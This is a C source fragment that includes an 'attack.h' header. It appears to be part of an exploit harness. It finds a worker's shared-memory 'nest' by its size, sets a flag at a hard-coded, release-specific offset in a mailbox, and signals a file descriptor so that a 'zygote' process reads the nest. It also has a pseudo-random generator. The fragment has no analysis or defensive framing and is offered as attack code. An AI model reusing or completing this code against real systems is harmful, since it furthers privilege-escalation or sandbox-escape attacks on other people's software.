/* The nest of a worker: where it asks its zygote for jobs. The offsets are those of the layout of this release. */

#include "attack.h"

#define PLACES 4
#define CONTROL 192
#define CONTROLS 4096
#define ORDERS 128
/* Of the mailbox: whether the zygote shall look into the nest. */
#define ASKS 352
#define LIMIT(n) (104 + 8 * (n))

/* The largest of the shared mappings that begin with words and not with a mailbox: reply, nest. */
static char *find_nest(size_t *length) {
    struct shared found[64];
    size_t count = shared_mappings(found, 64), best = 64;
    for (size_t i = 0; i < count; i++)
        /* The nest is a page longer than a round number; all else is round. */
        if (found[i].length > (1 << 18) && (found[i].length - CONTROLS) % (1 << 16) == 0 && found[i].length % (1 << 16) == CONTROLS) best = i;
    if (best == 64) return NULL;
    *length = found[best].length;
    return found[best].start;
}

static volatile uint32_t *word(char *at, size_t offset) { return (volatile uint32_t *)(at + offset); }
static volatile uint64_t *long_word(char *at, size_t offset) { return (volatile uint64_t *)(at + offset); }

/* Has the zygote look. */
static void ask(void) {
    char *box = mailbox();
    *word(box, ASKS) = 1;
    uint64_t ring = 1;
    if (write(3, &ring, 8) < 0) return;
}

static uint64_t noise = 88172645463325252u;
static uint64_t next(void) {
    noise ^= noise << 13;
    noise ^= noise >> 7;
    return noise ^= noise << 17;
}
